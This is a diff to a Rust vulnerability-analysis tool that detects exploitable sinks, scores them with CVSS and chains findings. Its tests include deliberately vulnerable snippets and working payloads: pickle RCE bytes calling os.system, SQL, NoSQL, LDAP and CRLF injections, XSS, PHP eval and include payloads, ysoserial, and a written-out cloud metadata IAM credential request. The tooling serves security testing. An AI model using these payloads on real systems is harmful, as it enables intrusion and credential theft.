+    let attack_complexity = if conditions.iter().any(|b| outside_attacker_control(&b.condition, slicer)) {
+        AttackComplexity::High
+    } else {
+        AttackComplexity::Low
+    };
+    CvssVector::for_sink(&sink.sink_type, attack_vector, attack_complexity)
+}
+
+/// Whether a condition depends on something other than user input: an
+/// unmodelled check, or a variable the attacker cannot set
+fn outside_attacker_control(condition: &Condition, slicer: &BackwardSlicer) -> bool {
+    match condition {
+        Condition::Opaque(_) => true,
+        Condition::Not(inner) => outside_attacker_control(inner, slicer),
+        Condition::And(parts) | Condition::Or(parts) => parts.iter().any(|p| outside_attacker_control(p, slicer)),
+        _ => {
+            let mut vars = Vec::new();
+            condition_vars(condition, &mut vars);
+            vars.iter().any(|v| !slicer.is_tainted(v))
+        }
+    }
+}
+
+fn join_alternatives(items: &[String]) -> String {
+    match items {
+        [] => "no value".to_string(),
+        [only] => only.clone(),
+        [rest @ .., last] => format!("{} or {}", rest.join(", "), last),
+    }
+}
+
+/// One finding, or an asset outside the code, in an exploit chain
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ChainStep {
+    /// Location of the finding; None for steps outside the workspace such as
+    /// the cloud metadata service
+    pub file_path: Option<String>,
+    pub line: Option<usize>,
+    pub sink_type: Option<SinkType>,
+    pub code: String,
+    pub description: String,
+}
+
+/// Findings that combine into an attack worth more than each on its own
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ChainResult {
+    pub name: String,
+    pub steps: Vec<ChainStep>,
+    /// Combined impact, 0.0 to 10.0
+    pub impact_score: f32,
+    /// "High" when the steps visibly share a file or directory name, "Medium"
+    /// when they are only linked by kind
+    pub confidence: String,
+    pub explanation: String,
+}
+
+/// Impact of a single finding on its own, 0.0 to 10.0
+fn base_impact(sink_type: &SinkType) -> f32 {
+    match sink_type {
+        SinkType::CommandInjection | SinkType::CodeInjection => 9.8,
+        SinkType::Deserialization => 9.0,
+        SinkType::SqlInjection => 8.8,
+        SinkType::Ssrf => 7.5,
+        SinkType::PathTraversal | SinkType::Xxe | SinkType::NoSqlInjection => 7.5,
+        SinkType::LdapInjection => 7.0,
+        SinkType::Xss => 6.1,
+        SinkType::HeaderInjection => 5.4,
+        SinkType::OpenRedirect => 4.7,
+    }
+}
+
+/// Score of a chain: its worst step, raised by half a point per extra step
+/// and to at least `floor` for what the chain achieves as a whole
+fn chain_impact(steps: &[ChainStep], floor: f32) -> f32 {
+    let worst = steps
+        .iter()
+        .filter_map(|s| s.sink_type.as_ref())
+        .map(base_impact)
+        .fold(0.0, f32::max);
+    let score = (worst + 0.5 * steps.len().saturating_sub(1) as f32).max(floor).min(10.0);
+    (score * 10.0).round() / 10.0
+}
+
+fn sink_step(file_path: &std::path::Path, sink: &Sink, description: &str) -> ChainStep {
+    ChainStep {
+        file_path: Some(file_path.to_string_lossy().to_string()),
+        line: Some(sink.line),
+        sink_type: Some(sink.sink_type.clone()),
+        code: sink.code_snippet.trim().to_string(),
+        description: description.to_string(),
+    }
+}
+
+/// `open(..., 'w')` and friends: a path sink that creates or overwrites a file
+fn writes_file(sink: &Sink) -> bool {
+    const WRITE_MODES: &[&str] = &["'w", "\"w", "'a", "\"a", "'x", "\"x", "mode='w", "mode=\"w"];
+    sink.sink_type == SinkType::PathTraversal
+        && (sink.code_snippet.contains("write_file")
+            || (sink.code_snippet.contains("open(") && WRITE_MODES.iter().any(|m| sink.code_snippet.contains(m))))
+}
+
+/// A sink that runs or unpickles the contents of a file
+fn executes_file(sink: &Sink) -> bool {
+    let code = &sink.code_snippet;
+    match sink.sink_type {
+        SinkType::CodeInjection => ["open(", ".read(", "import_module", "runpy", "exec_module", "load_source"]
+            .iter()
+            .any(|hint| code.contains(hint)),
+        SinkType::Deserialization => code.contains("load(") && !code.contains("loads("),
+        _ => false,
+    }
+}
+
+/// String literal contents and path segments of a snippet, for matching
+/// steps that touch the same location
+fn path_tokens(code: &str) -> HashSet<String> {
+    code.split(|c: char| !(c.is_alphanumeric() || c == '_' || c == '.'))
+        .filter(|t| t.len() > 2 && !matches!(*t, "open" | "read" | "write" | "load" | "pickle" | "request" | "path" | "join" | "os.path.join"))
+        .map(|t| t.to_lowercase())
+        .collect()
+}
+
+/// Link findings from a workspace-wide analysis into multi-step chains:
+/// SSRF reaching the cloud metadata service, and arbitrary file writes
+/// (typically uploads) whose result is later executed or unpickled. Chains
+/// are ordered by impact, then confidence.
+pub fn detect_chains(results: &[(PathBuf, AnalysisResult)]) -> Vec<ChainResult> {
+    let exploitable: Vec<(&PathBuf, &Sink)> = results
+        .iter()
+        .filter(|(_, r)| r.status == ExploitStatus::Exploitable)
+        .flat_map(|(path, r)| r.sinks.iter().map(move |s| (path, s)))
+        .collect();
+    let all_sinks: Vec<(&PathBuf, &Sink)> = results
+        .iter()
+        .flat_map(|(path, r)| r.sinks.iter().map(move |s| (path, s)))
+        .collect();
+
+    let mut chains = Vec::new();
+
+    for (path, sink) in exploitable.iter().filter(|(_, s)| s.sink_type == SinkType::Ssrf) {
+        let steps = vec![
+            sink_step(path, sink, "Attacker controls the URL of a server-side request"),
+            ChainStep {
+                file_path: None,
+                line: None,
+                sink_type: None,
+                code: "GET http://169.254.169.254/latest/meta-data/iam/security-credentials/".to_string(),
+                description: "The request reaches the cloud instance metadata service, which returns temporary IAM credentials".to_string(),
+            },
+        ];
+        chains.push(ChainResult {
+            name: "SSRF → Cloud Metadata Credential Theft".to_string(),
+            impact_score: chain_impact(&steps, 9.1),
+            confidence: "Medium".to_string(),
+            explanation: format!(
+                "The request at {}:{} can be pointed at the instance metadata endpoint. On AWS, GCP or Azure hosts without IMDSv2 or an egress block this leaks credentials for the instance role, turning a read-only request primitive into cloud account access.",
+                path.display(),
+                sink.line
+            ),
+            steps,
+        });
+    }
+
+    for (write_path, write) in exploitable.iter().filter(|(_, s)| writes_file(s)) {
+        let write_tokens = path_tokens(&write.code_snippet);
+        for (exec_path, exec) in all_sinks.iter().filter(|(_, s)| executes_file(s)) {
+            let shared: Vec<String> = path_tokens(&exec.code_snippet).intersection(&write_tokens).cloned().collect();
+            let steps = vec![
+                sink_step(write_path, write, "Attacker-controlled path lets an upload write outside its directory"),
+                sink_step(exec_path, exec, "A file from disk is executed or deserialized"),
+            ];
+            let action = if exec.sink_type == SinkType::Deserialization { "unpickled" } else { "executed" };
+            chains.push(ChainResult {
+                name: "Arbitrary File Write → Code Execution".to_string(),
+                impact_score: chain_impact(&steps, 9.8),
+                confidence: if shared.is_empty() { "Medium" } else { "High" }.to_string(),
+                explanation: format!(
+                    "The path traversal at {}:{} lets an attacker place a file of their choosing, and {}:{} later {} file contents{}. Writing a payload where it will be picked up gives remote code execution.",
+                    write_path.display(),
+                    write.line,
+                    exec_path.display(),
+                    exec.line,
+                    action,
+                    if shared.is_empty() {
+                        String::new()
+                    } else {
+                        format!(" from the same location ({})", shared.join(", "))
+                    }
+                ),
+                steps,
+            });
+        }
+    }
+
+    chains.sort_by(|a, b| {
+        b.impact_score
+            .total_cmp(&a.impact_score)
+            .then_with(|| (a.confidence != "High").cmp(&(b.confidence != "High")))
+    });
+    chains
+}
+
 impl Default for ExploitProver {
     fn default() -> Self {
         Self::new().expect("Failed to create ExploitProver")
@@ -734,6 +1657,264 @@ execute = lambda q: cursor.execute(q)
         assert!(!result.sinks.is_empty());
     }
 
+    #[test]
+    fn test_blueprint_view_class_exploitable() {
+        let source = r#"
+import os
+from flask.views import MethodView
+
+class PingAPI(MethodView):
+    def get(self, host):
+        os.system("ping -c 1 " + host)
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze(source);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        assert!(result.attack_path.iter().any(|n| n.description.contains("view PingAPI.get")));
+    }
+
+    #[test]
+    fn test_reflected_xss_exploitable() {
+        let source = r#"
+from flask import Flask, request
+
+app = Flask(__name__)
+
+@app.route('/search')
+def search():
+    term = request.args.get("q")
+    return f"<h2>Results for {term}</h2>"
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze(source);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        assert_eq!(result.sinks[0].sink_type, SinkType::Xss);
+        assert!(result.payload.unwrap().contains("<script>alert(document.domain)</script>"));
+    }
+
+    #[test]
+    fn test_open_redirect_exploitable() {
+        let source = r#"
+from flask import Flask, request, redirect
+
+app = Flask(__name__)
+
+@app.route('/login')
+def login():
+    return redirect(request.args.get("next"))
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze(source);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        assert!(result.payload.unwrap().contains("//attacker.com/login"));
+    }
+
+    #[test]
+    fn test_header_injection_payload_uses_crlf() {
+        let source = r#"
+@app.route('/lang')
+def lang():
+    value = request.args.get("lang")
+    resp = make_response("ok")
+    resp.headers["Content-Language"] = value
+    return resp
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze(source);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        assert_eq!(result.sinks[0].sink_type, SinkType::HeaderInjection);
+        assert!(result.payload.unwrap().contains("%0d%0aSet-Cookie"));
+    }
+
+    #[test]
+    fn test_nosql_operator_injection_exploitable() {
+        let source = r#"
+@app.route('/login', methods=['POST'])
+def login():
+    creds = request.get_json()
+    user = db.users.find_one({"username": creds["username"], "password": creds["password"]})
+    return "ok" if user else "denied"
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze(source);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        assert_eq!(result.sinks[0].sink_type, SinkType::NoSqlInjection);
+        assert!(result.payload.unwrap().contains("\"$ne\": null"));
+    }
+
+    #[test]
+    fn test_ldap_filter_injection_exploitable() {
+        let source = r#"
+@app.route('/lookup')
+def lookup():
+    name = request.args.get("user")
+    conn.search("dc=corp,dc=local", "(&(objectClass=person)(uid=" + name + "))")
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze(source);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        assert!(result.payload.unwrap().contains("*)(uid=*))(|(uid=*"));
+    }
+
+    #[test]
+    fn test_clean_config_key_is_safe() {
+        let source = r#"
+import os
+config = {}
+config["debug"] = request.args.get("debug")
+config["tool"] = "/usr/bin/uptime"
+os.system(config["tool"])
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze(source);
+        assert_eq!(result.status, ExploitStatus::Safe);
+    }
+
+    #[test]
+    fn test_allowlisted_command_is_safe() {
+        let source = r#"
+import os
+ALLOWED = ("ls", "whoami")
+
+def run(cmd):
+    if cmd not in ALLOWED:
+        return "denied"
+    os.system(cmd)
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze(source);
+        assert_eq!(result.status, ExploitStatus::Safe);
+        assert!(result.explanation.contains("only 'ls' or 'whoami' reachable"), "{}", result.explanation);
+    }
+
+    #[test]
+    fn test_weak_guard_still_exploitable() {
+        let source = r#"
+import os
+
+def run(cmd):
+    if cmd.startswith("ping"):
+        os.system(cmd)
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze(source);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        assert!(result.attack_path.iter().any(|n| n.description.starts_with("GUARD")));
+    }
+
+    #[test]
+    fn test_go_sql_injection_payload() {
+        let source = r#"
+package main
+
+import (
+    "database/sql"
+    "net/http"
+)
+
+func user(db *sql.DB, w http.ResponseWriter, r *http.Request) {
+    name := r.URL.Query().Get("name")
+    db.QueryRow("SELECT id FROM users WHERE name = '" + name + "'")
+}
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze_as(Language::Go, source);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        assert_eq!(result.sinks[0].sink_type, SinkType::SqlInjection);
+        assert!(result.payload.unwrap().contains("' OR '1'='1"));
+        assert_eq!(result.cvss.unwrap().score, 9.8);
+    }
+
+    #[test]
+    fn test_java_payloads() {
+        let source = r#"
+public class UserController {
+    @GetMapping("/users")
+    public String find(@RequestParam String name, HttpServletRequest request) throws Exception {
+        stmt.executeQuery("SELECT * FROM users WHERE name = '" + name + "'");
+        return "ok";
+    }
+}
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze_as(Language::Java, source);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        assert_eq!(result.sinks[0].sink_type, SinkType::SqlInjection);
+        assert!(result.payload.unwrap().contains("' OR '1'='1"));
+
+        let object = prover.analyze_as(
+            Language::Java,
+            "class A { void f(HttpServletRequest r) { new ObjectInputStream(r.getInputStream()).readObject(); } }",
+        );
+        assert_eq!(object.sinks[0].sink_type, SinkType::Deserialization);
+        assert!(object.payload.unwrap().contains("ysoserial.jar CommonsCollections6 'id'"));
+    }
+
+    #[test]
+    fn test_php_payloads() {
+        let source = r#"<?php
+$id = $_GET['id'];
+$result = mysqli_query($conn, "SELECT * FROM users WHERE id = '" . $id . "'");
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze_as(Language::Php, source);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        assert_eq!(result.sinks[0].sink_type, SinkType::SqlInjection);
+        assert!(result.payload.unwrap().contains("' OR '1'='1"));
+
+        let include = prover.analyze_as(Language::Php, "<?php\ninclude $_GET['page'];\n");
+        assert!(include.payload.unwrap().contains("php://filter/convert.base64-encode/resource="));
+
+        let eval = prover.analyze_as(Language::Php, "<?php\neval($_POST['code']);\n");
+        assert!(eval.payload.unwrap().contains("system('id');"));
+
+        let object = prover.analyze_as(Language::Php, "<?php\n$prefs = unserialize($_COOKIE['prefs']);\n");
+        assert_eq!(object.sinks[0].sink_type, SinkType::Deserialization);
+        assert!(object.payload.unwrap().contains("O:8:\"stdClass\""));
+    }
+
+    #[test]
+    fn test_cvss_reflects_entry_point_and_conditions() {
+        let web = r#"
+from flask import request
+import os
+
+@app.route('/ping')
+def ping():
+    host = request.args.get('host')
+    os.system("ping " + host)
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze(web);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        let cvss = result.cvss.expect("Exploitable findings are scored");
+        assert_eq!(cvss.vector, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H");
+        assert_eq!(cvss.score, 9.8);
+        assert_eq!(result.sinks[0].cvss.as_ref(), Some(&cvss));
+
+        let cli = r#"
+import os
+import sys
+
+target = sys.argv[1]
+os.system("ping " + target)
+"#;
+        let result = prover.analyze(cli);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        assert!(result.cvss.unwrap().vector.contains("/AV:L/"));
+
+        let debug_only = r#"
+import os
+
+def run(cmd):
+    if DEBUG == "1":
+        os.system(cmd)
+"#;
+        let result = prover.analyze(debug_only);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        assert!(result.cvss.unwrap().vector.contains("/AC:H/"), "The flag is not attacker-controlled");
+    }
+
     // Safe Code Tests
     #[test]
     fn test_no_sinks_clean_code() {
@@ -787,4 +1968,130 @@ def test():
         let result = prover.analyze(source);
         assert!(!result.explanation.is_empty());
     }
+
+    #[test]
+    fn test_pickle_payload_opcodes() {
+        let bytes = pickle_rce_payload("id");
+        assert_eq!(bytes, b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R.".to_vec());
+        assert_eq!(
+            base64::engine::general_purpose::STANDARD.encode(&bytes),
+            "gAJjb3MKc3lzdGVtClgCAAAAaWSFUi4="
+        );
+    }
+
+    #[test]
+    fn test_pickle_payload_uses_command_override() {
+        let source = r#"
+import pickle
+from flask import request
+
+data = request.get_data()
+obj = pickle.loads(data)
+"#;
+        let mut prover = ExploitProver::new().unwrap().with_payload_command("touch /tmp/pwned");
+        let result = prover.analyze(source);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        let expected = base64::engine::general_purpose::STANDARD.encode(pickle_rce_payload("touch /tmp/pwned"));
+        let payload = result.payload.unwrap();
+        assert!(payload.contains(&expected));
+        assert!(payload.contains("(os.system, ('touch /tmp/pwned',))"));
+    }
+
+    #[test]
+    fn test_sql_context_from_query_shape() {
+        assert_eq!(
+            sql_context(r#"query = f"SELECT * FROM users WHERE name = '{name}'""#),
+            Some(SqlContext::Quoted('\''))
+        );
+        assert_eq!(
+            sql_context(r#"query = f'SELECT * FROM users WHERE name = "{name}"'"#),
+            Some(SqlContext::Quoted('"'))
+        );
+        assert_eq!(sql_context(r#"query = f"SELECT * FROM users WHERE id = {user_id}""#), Some(SqlContext::Numeric));
+        assert_eq!(
+            sql_context(r#"q = "SELECT * FROM t WHERE a = 'x' AND b = '" + b + "'""#),
+            Some(SqlContext::Quoted('\''))
+        );
+        assert_eq!(sql_context(r#"q = "DELETE FROM t WHERE id = " + str(i)"#), Some(SqlContext::Numeric));
+        assert_eq!(sql_context(r#"q = "SELECT * FROM t WHERE n LIKE '%%%s%%'" % term"#), Some(SqlContext::Quoted('\'')));
+        assert_eq!(sql_context(r#"q = f"SELECT {{literal}} FROM t WHERE id = {i}""#), Some(SqlContext::Numeric));
+        assert_eq!(sql_context(r#"msg = f"hello {name}""#), None);
+    }
+
+    #[test]
+    fn test_sql_payload_matches_numeric_context() {
+        let source = r#"
+from flask import request
+import sqlite3
+
+user_id = request.args.get('id')
+cursor = sqlite3.connect('db.sqlite').cursor()
+cursor.execute(f"SELECT * FROM users WHERE id = {user_id}")
+"#;
+        let mut prover = ExploitProver::new().unwrap();
+        let result = prover.analyze(source);
+        assert_eq!(result.status, ExploitStatus::Exploitable);
+        let payload = result.payload.unwrap();
+        assert!(payload.contains("Query Context: numeric"));
+        assert!(payload.contains("1 OR 1=1 --"));
+    }
+
+    fn prove(path: &str, source: &str) -> (PathBuf, AnalysisResult) {
+        (PathBuf::from(path), ExploitProver::new().unwrap().analyze(source))
+    }
+
+    #[test]
+    fn test_upload_write_chains_to_plugin_exec() {
+        let upload = prove("upload.py", r#"
+import os
+from flask import request
+
+name = request.form['name']
+with open(os.path.join('plugins', name), 'wb') as fh:
+    fh.write(request.files['file'].read())
+"#);
+        let loader = prove("loader.py", r#"
+import os
+
+for plugin in os.listdir('plugins'):
+    exec(open(os.path.join('plugins', plugin)).read())
+"#);
+        assert_eq!(upload.1.status, ExploitStatus::Exploitable);
+
+        let chains = detect_chains(&[upload, loader]);
+        assert_eq!(chains.len(), 1);
+        assert_eq!(chains[0].name, "Arbitrary File Write → Code Execution");
+        assert_eq!(chains[0].confidence, "High", "Both steps touch 'plugins'");
+        assert_eq!(chains[0].impact_score, 10.0);
+        assert_eq!(chains[0].steps[0].file_path.as_deref(), Some("upload.py"));
+        assert_eq!(chains[0].steps[1].sink_type, Some(SinkType::CodeInjection));
+    }
+
+    #[test]
+    fn test_ssrf_chains_to_metadata() {
+        let fetch = prove("fetch.py", r#"
+import requests
+from flask import request
+
+url = request.args.get('url')
+resp = requests.get(url)
+"#);
+        let chains = detect_chains(&[fetch]);
+        assert_eq!(chains.len(), 1);
+        assert!(chains[0].steps[1].code.contains("169.254.169.254"));
+        assert!(chains[0].steps[1].file_path.is_none());
+        assert_eq!(chains[0].impact_score, 9.1);
+    }
+
+    #[test]
+    fn test_read_only_paths_do_not_chain() {
+        let reader = prove("reader.py", r#"
+from flask import request
+
+name = request.args.get('name')
+data = open(name).read()
+exec(open('plugins/init.py').read())
+"#);
+        assert!(detect_chains(&[reader]).is_empty());
+    }
 }